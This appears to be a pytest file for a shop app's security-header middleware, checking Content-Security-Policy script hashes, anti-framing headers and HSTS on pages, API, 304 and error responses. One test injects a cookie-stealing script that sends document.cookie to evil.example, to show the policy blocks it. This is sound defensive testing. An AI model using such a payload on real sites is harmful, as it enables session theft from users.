"""Security headers on pages, /api answers and error answers, through the app's own wrapping.

The app is assembled as `rx.App` does it in production: the /api FastAPI app with the
frontend mounted under it (Reflex's own static server, gzip sidecars included), then the
last `api_transformer` of stoflow/stoflow.py (`with_security_headers`) around everything.
The same headers on the real production server, and the browser refusing to frame a
page, are in tests/e2e/test_framing.py.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import re
from pathlib import Path

import pytest
from fastapi import FastAPI
from fastapi.responses import HTMLResponse
from fastapi.testclient import TestClient
from reflex.utils.precompressed_staticfiles import PrecompressedStaticFiles
from reflex.utils.prerequisites import get_web_dir

from stoflow.api import create_api
from stoflow.security.headers import SecurityHeaders, with_security_headers
from stoflow.stoflow import app
from stoflow.storage import get_storage, photo_key
from stoflow.storage.signing import media_url

BASE = "http://localhost:3000"
THEME_SCRIPT = 'document.documentElement.dataset.theme = "light";'
ROUTER_SCRIPT = "window.__context = {ssr: false};"
PAGE = f"""<!DOCTYPE html><html><head>
<script>{THEME_SCRIPT}</script>
<script defer src="/auth.js"></script>
<script type="module">{ROUTER_SCRIPT}</script>
</head><body><script>{THEME_SCRIPT}</script></body></html>"""


def _sha256(script: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(script.encode()).digest()).decode() + "'"


def _directives(policy: str) -> dict[str, list[str]]:
    return {name: values for name, *values in (part.split() for part in policy.split(";") if part.strip())}


def _served(frontend: Path, *, production: bool = False, api: FastAPI | None = None) -> TestClient:
    """/api and the compiled pages of `frontend`, behind the headers as the app puts them."""
    api = api or create_api()
    api.mount("", PrecompressedStaticFiles(directory=frontend, html=True, encodings=["gzip"]))
    public_url = "https://shop.example" if production else BASE
    wrapped = SecurityHeaders(api, public_url=public_url, production=production, pages_dir=frontend)
    return TestClient(wrapped, base_url=BASE, raise_server_exceptions=False)


@pytest.fixture
def frontend(tmp_path: Path) -> Path:
    """A compiled page with inline scripts, and its gzip sidecar as Reflex builds them."""
    (tmp_path / "account").mkdir()
    (tmp_path / "account" / "index.html").write_text(PAGE)
    (tmp_path / "account" / "index.html.gz").write_bytes(gzip.compress(PAGE.encode()))
    (tmp_path / "404.html").write_text("<html><body>Not found</body></html>")
    return tmp_path


@pytest.fixture
def client(frontend: Path, database_url: str, redis_url: str) -> TestClient:
    return _served(frontend)


def test_the_app_puts_everything_behind_the_headers_of_its_own_build() -> None:
    assert app.api_transformer[-1] is with_security_headers  # type: ignore[index]
    wrapped = with_security_headers(create_api())
    assert isinstance(wrapped, SecurityHeaders)
    assert wrapped.build_scripts.pages_dir == (get_web_dir() / "build" / "client").resolve()


def _assert_common(headers: dict[str, str] | object) -> None:
    assert headers["x-content-type-options"] == "nosniff"  # type: ignore[index]
    assert headers["x-frame-options"] == "DENY"  # type: ignore[index]
    assert headers["referrer-policy"] == "same-origin"  # type: ignore[index]


@pytest.mark.parametrize("encoding", ["identity", "gzip"])
def test_a_page_allows_only_its_own_inline_scripts_and_no_framing(client: TestClient, encoding: str) -> None:
    response = client.get("/account/", headers={"Accept-Encoding": encoding})

    assert response.status_code == 200
    assert response.headers.get("content-encoding", "identity") == encoding
    assert response.text == PAGE  # the body is passed on unchanged
    _assert_common(response.headers)
    policy = _directives(response.headers["content-security-policy"])
    assert policy["frame-ancestors"] == ["'none'"]
    assert policy["object-src"] == ["'none'"]
    assert policy["script-src"] == ["'self'", "'unsafe-eval'", _sha256(THEME_SCRIPT), _sha256(ROUTER_SCRIPT)]
    assert policy["connect-src"] == ["'self'", "ws://localhost:3000"]
    assert "strict-transport-security" not in response.headers  # development and tests are http


def test_a_page_revalidated_keeps_the_policy_stored_with_it(client: TestClient) -> None:
    first = client.get("/account/", headers={"Accept-Encoding": "identity"})
    again = client.get("/account/", headers={"Accept-Encoding": "identity", "If-None-Match": first.headers["etag"]})

    assert again.status_code == 304
    # A 304's headers replace the stored ones: a policy without the page's hashes would break it.
    assert "content-security-policy" not in again.headers
    _assert_common(again.headers)


def test_api_answers_and_error_answers_carry_the_headers(client: TestClient) -> None:
    answers = [
        client.get("/api/auth/me"),  # 401: not signed in
        client.post("/api/auth/login", json={"email": 3}),  # 422: invalid body
        client.get("/no/such/page"),  # 404 from the frontend mount
    ]

    assert [answer.status_code for answer in answers] == [401, 422, 404]
    for answer in answers:
        _assert_common(answer.headers)
        policy = _directives(answer.headers["content-security-policy"])
        assert policy["frame-ancestors"] == ["'none'"]
        assert "'unsafe-inline'" not in policy["script-src"]


def test_a_routes_own_stricter_policy_is_kept_and_cannot_be_framed(
    client: TestClient, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from stoflow.config import get_settings

    monkeypatch.setenv("STOFLOW_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("STORAGE_BACKEND", "local")
    get_settings.cache_clear()
    get_storage.cache_clear()
    try:
        key = photo_key(1, 10, 100, "full")
        get_storage().put(key, b"\xff\xd8\xff a jpeg", "image/jpeg")
        response = client.get(media_url(key, user_id=1))
    finally:
        get_settings.cache_clear()
        get_storage.cache_clear()

    assert response.status_code == 200
    assert response.headers["content-security-policy"] == "default-src 'none'; sandbox; frame-ancestors 'none'"
    _assert_common(response.headers)


def test_production_adds_hsts_and_secure_websockets(frontend: Path, database_url: str, redis_url: str) -> None:
    # STOFLOW_ENV=production needs real secrets; the middleware is given what it reads from them.
    client = _served(frontend, production=True)

    for response in (client.get("/account/"), client.get("/api/auth/me")):
        assert re.fullmatch(r"max-age=\d{8,}; includeSubDomains", response.headers["strict-transport-security"])
        policy = _directives(response.headers["content-security-policy"])
        assert policy["connect-src"] == ["'self'", "wss://shop.example"]
        assert "upgrade-insecure-requests" in policy


def test_an_inline_script_that_is_not_the_builds_own_is_never_allowed(
    frontend: Path, database_url: str, redis_url: str
) -> None:
    """Were an answer ever to echo what someone typed, its script would still not run."""
    api = create_api()
    injected = "fetch('https://evil.example/?c=' + document.cookie)"
    api.add_api_route(
        "/api/echo", lambda: HTMLResponse(f"<p>Hi</p><script>{THEME_SCRIPT}</script><script>{injected}</script>")
    )
    client = _served(frontend, api=api)

    script_src = _directives(client.get("/api/echo").headers["content-security-policy"])["script-src"]

    assert _sha256(injected) not in script_src
    assert script_src == ["'self'", "'unsafe-eval'", _sha256(THEME_SCRIPT)]  # the build has this one


def test_an_unexpected_error_answers_with_the_headers_too(frontend: Path, database_url: str, redis_url: str) -> None:
    """FastAPI answers a crash outside its own middleware: the headers are put around it."""
    api = create_api()

    def crash() -> None:
        raise RuntimeError("a bug")

    api.add_api_route("/api/crash", crash)
    answer = _served(frontend, api=api).get("/api/crash")

    assert answer.status_code == 500 and answer.json() == {"error": "internal_error"}
    _assert_common(answer.headers)
    assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
